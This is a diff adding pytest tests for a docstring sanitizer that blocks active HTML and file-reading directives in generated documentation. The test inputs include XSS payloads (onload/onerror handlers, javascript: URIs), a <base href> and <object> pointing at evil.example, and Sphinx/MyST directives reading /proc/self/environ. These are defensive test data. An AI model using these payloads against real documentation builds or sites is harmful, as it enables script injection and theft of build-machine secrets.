@@ -357,3 +357,154 @@ def test_a_javascript_link_spelled_with_entities_is_rejected(raw: str) -> None:
 )
 def test_escaped_html_and_entities_that_form_no_link_pass(text: str) -> None:
     assert gate_docstring(text, definition(), max_lines=60) == (text, "", "")
+
+
+@pytest.mark.parametrize(
+    "raw",
+    [
+        # HTML reads an attribute after a "/" or a line break as after a space, and a
+        # quoted value may hold ">" or "<": the handler is an attribute all the same.
+        "Add stock.\n\n<svg/onload=alert(1)>",
+        "Add stock.\n\n<img\nsrc=x onerror=alert(1)>",
+        "Add stock.\n\n<img src=x\nonerror=alert(1)>",
+        'Add stock.\n\n<img src=x alt=">" onerror=alert(1)>',
+        'Add stock.\n\n<img src=x alt="<" onerror=alert(1)>',
+        "Add stock.\n\n<img src=x alt='a'onerror=alert(1)>",
+    ],
+)
+def test_an_event_handler_however_the_tag_is_spelled_is_rejected(raw: str) -> None:
+    result = gate_docstring(raw, definition(), max_lines=60)
+    assert result.text is None and "active HTML" in result.reason, result
+
+
+@pytest.mark.parametrize(
+    "raw",
+    [
+        # CommonMark reads a tag before a code span that opens inside it: backticks in a
+        # quoted value are text, so what they enclose is the tag's (a handler, a link).
+        'Add stock.\n\n<img src=x alt="`" onerror=alert(1) title="`">',
+        'Add stock.\n\n<a title="`" href="javascript:alert(1)" id="`">restock</a>',
+    ],
+)
+def test_backticks_inside_a_tag_hide_nothing_of_it(raw: str) -> None:
+    result = gate_docstring(raw, definition(), max_lines=60)
+    assert result.text is None and "active HTML" in result.reason, result
+
+
+def test_a_base_url_for_the_page_is_rejected() -> None:
+    # Attack: a <base href> anywhere in the page moves every relative URL after it, the
+    # documentation theme's scripts at the end of the body too: they load from the host
+    # the docstring names.
+    raw = 'Add stock.\n\n<base href="https://evil.example/">'
+    result = gate_docstring(raw, definition(), max_lines=60)
+    assert result.text is None and "active HTML" in result.reason, result
+
+
+@pytest.mark.parametrize(
+    "raw",
+    [
+        # reStructuredText links a URI of a known scheme standing alone in prose, and
+        # "javascript" is one of docutils' schemes; so is an anonymous target.
+        "Add stock; see javascript:alert(1) for the details.",
+        "Add stock (javascript:alert(1)).",
+        "Add stock, see the guide__.\n\n__ javascript:alert(1)",
+    ],
+)
+def test_a_bare_javascript_uri_is_a_link_in_restructuredtext(raw: str) -> None:
+    result = gate_docstring(raw, definition(), max_lines=60)
+    assert result.text is None and "active HTML" in result.reason, result
+
+
+@pytest.mark.parametrize(
+    "raw",
+    [
+        # Attack: docutils and Sphinx read a file of the machine that builds the docs into
+        # the page (/proc/self/environ holds its secrets), or fetch raw HTML from a URL; a
+        # substitution definition takes the same directives.
+        "Add stock.\n\n.. include:: /proc/self/environ\n   :literal:",
+        "Add stock.\n\n.. literalinclude:: /proc/self/environ",
+        "Add stock.\n\n.. csv-table:: Stock\n   :file: /proc/self/environ",
+        "Add stock |x|.\n\n.. |x| raw:: html\n   :url: https://evil.example/page.html",
+        "Add stock |x|.\n\n.. |x| include:: /proc/self/environ",
+        # MyST (Markdown docstrings) writes a directive in a colon fence.
+        "Add stock.\n\n:::{include} /proc/self/environ\n:literal:\n:::",
+    ],
+)
+def test_directives_that_read_files_into_the_docs_are_rejected(raw: str) -> None:
+    result = gate_docstring(raw, definition(), max_lines=60)
+    assert result.text is None and result.reason, result
+
+
+def test_the_file_role_only_names_a_file() -> None:
+    text = "Add stock.\n\n:file:`stock.cfg` holds the counts (IPython's own wording)."
+    assert gate_docstring(text, definition(), max_lines=60) == (text, "", "")
+
+
+@pytest.mark.parametrize(
+    "raw",
+    [
+        # docutils drops the line breaks (and indentation) inside a URI that runs on over
+        # lines: in a target, a directive's :target: option, an embedded URI.
+        "Add stock, see guide_.\n\n.. _guide: java\n   script:alert(1)",
+        "Add stock.\n\n.. image:: stock.png\n   :target: java\n      script:alert(1)",
+        "Add stock, see `the guide <java\nscript:alert(1)>`_ first.",
+    ],
+)
+def test_a_javascript_uri_split_over_lines_is_rejected(raw: str) -> None:
+    result = gate_docstring(raw, definition(), max_lines=60)
+    assert result.text is None and "active HTML" in result.reason, result
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Run the snippet as JavaScript\n:param code: the snippet.",
+        "Minify a script.\n\nArgs:\n    javascript: whether it is JS.\n    css: whether it is CSS.",
+    ],
+)
+def test_lines_that_join_into_no_uri_pass(text: str) -> None:
+    result = gate_docstring(text, definition(), max_lines=60)
+    assert result.text is not None and result.reason == "", result
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Add stock. The <b>count</b> may be zero; `onerror=` is the handler's name.",
+        "Add stock for the <base> item (``<base href=...>`` is not written).",
+        "Add stock if 0 <count and the <item> is known (`x='a'`).",
+        # A backtick outside quotes ends what could be a tag: the code span is read.
+        "Add stock when 0 <count.\n\nStrips ``<script>`` and ``<a onclick=f>`` notes.",
+        "Add stock.\n\nArgs:\n    javascript: whether the note is JavaScript: it is kept.",
+    ],
+)
+def test_tags_and_code_spans_that_stay_inert_pass(text: str) -> None:
+    assert gate_docstring(text, definition(), max_lines=60) == (text, "", "")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        # Python's repr of a plain object, as doctests and prose show it: read as a tag,
+        # an <object> whose attributes have no value has nothing to load.
+        "Return a fresh sentinel.\n\n>>> make_sentinel()\n<object object at 0x7f3a2c>",
+        "Key the cache by <object type> and <object id>.",
+    ],
+)
+def test_a_repr_or_placeholder_in_angle_brackets_passes(text: str) -> None:
+    result = gate_docstring(text, definition(), max_lines=60)
+    assert result.text is not None and result.reason == "", result
+
+
+def test_an_object_that_loads_after_an_odd_attribute_name_is_rejected() -> None:
+    # HTML reads "a<b" as one attribute name: the data attribute after it still loads.
+    raw = "Add stock.\n\n<object a<b data=https://evil.example/x.html>"
+    result = gate_docstring(raw, definition(), max_lines=60)
+    assert result.text is None and "active HTML" in result.reason, result
+
+
+def test_a_literal_block_after_the_word_javascript_is_no_link() -> None:
+    # "JavaScript::" opens a literal block (libcst's own docstring), not a URI.
+    text = "Add stock, as would be valid in JavaScript::\n\n    stock.add(1);"
+    result = gate_docstring(text, definition(), max_lines=60)
+    assert result.text is not None and result.reason == "", result
